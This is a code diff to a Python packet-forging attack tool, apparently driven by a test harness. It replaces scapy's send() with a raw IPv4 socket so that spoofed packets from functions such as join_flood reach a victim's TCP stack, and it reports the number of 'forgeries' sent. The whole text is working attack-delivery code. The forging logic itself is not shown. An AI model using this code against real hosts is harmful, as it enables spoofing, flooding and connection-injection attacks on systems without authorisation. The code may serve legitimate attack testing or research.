@@ -33,6 +33,7 @@ import argparse
 import json
 import os
 import random
+import socket
 import sys
 import time
 from dataclasses import dataclass, field
@@ -412,6 +413,18 @@ def join_flood(k: Knowledge, sources: list[str], targets: list[str], port: int,
     return out
 
 
+def raw_socket() -> socket.socket:
+    """A raw IPv4 socket that sends our headers as they are; the kernel routes and
+    resolves the next hop (with its own retries, where scapy's send() gives up after one
+    ARP request and sends to the broadcast address, which the victim's TCP ignores)."""
+    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+
+
+def send_raw(sock: socket.socket, packets) -> None:
+    for pkt in packets:
+        sock.sendto(bytes(pkt), (pkt["IP"].dst, 0))
+
+
 def parse_tuple(text: str) -> tuple[str, int, str, int]:
     """``SRC:SPORT-DST:DPORT`` -> (src, sport, dst, dport)."""
     try:
@@ -455,8 +468,9 @@ def main(argv: list[str] | None = None) -> int:
     args = ap.parse_args(argv)
     if args.strength == "eavesdrop" and not args.tap:
         ap.error("--strength eavesdrop needs --tap")
-    from scapy.sendrecv import send
+    from scapy.layers.inet import IP  # noqa: F401  (loaded before the go line, not after)
 
+    sock = raw_socket()
     if args.wait:
         print("ready", flush=True)
         line = sys.stdin.readline()
@@ -476,8 +490,11 @@ def main(argv: list[str] | None = None) -> int:
     except (OSError, ValueError) as e:  # an unreadable tap, a bad address
         print(json.dumps({"error": str(e)}), flush=True)
         return 1
-    if packets:
-        send(packets, verbose=False)
+    try:
+        send_raw(sock, packets)
+    except OSError as e:
+        print(json.dumps({"error": f"sending the forgeries: {e}"}), flush=True)
+        return 1
     print(json.dumps({"attack": args.attack, "strength": args.strength, "sent": len(packets),
                       **k.summary()}), flush=True)  # fmt: skip
     return 0
